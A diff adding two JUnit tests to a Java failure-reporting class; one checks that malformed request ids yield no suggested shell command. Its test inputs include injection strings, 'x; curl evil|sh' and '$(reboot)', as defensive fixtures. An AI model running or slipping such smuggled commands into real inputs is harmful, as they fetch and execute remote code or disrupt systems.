@@ -14,6 +14,7 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.EnumSource;
 import org.junit.jupiter.params.provider.NullSource;
+import org.junit.jupiter.params.provider.ValueSource;
 
 class FailuresTest {
     private static final Instant START = Instant.parse("2026-11-30T10:00:00Z");
@@ -34,6 +35,26 @@ class FailuresTest {
                         "TEMPLATE_UNAVAILABLE",
                         "The provider does not have the template: deleted, paused, or not approved. Look it up there.",
                         "./tidings show order-1"));
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"x; curl evil|sh", "$(reboot)", "+6581234567", "a\nb", ""})
+    void offersNoCommandWithAnIdThatHasNotTheFormOfOne(String id) {
+        failures.take(List.of(result(id, Status.REJECTED, 0, Reason.INVALID_REQUEST)));
+
+        assertThat(failures.all()).singleElement().satisfies(failure -> {
+            assertThat(failure.requestId()).isEqualTo("(malformed id)");
+            assertThat(failure.command()).isEmpty();
+            assertThat(failure.advice()).doesNotContain("timeline");
+        });
+    }
+
+    @Test
+    void tellsNoAccountOfWhatNobodyHasChecked() {
+        failures.take(List.of(result("order-1", Status.REJECTED, 0, Reason.INVALID_REQUEST)));
+
+        assertThat(failures.all()).extracting(Failure::account).containsExactly("");
+        assertThat(failures.all()).extracting(Failure::command).containsExactly("./tidings show order-1");
     }
 
     @Test
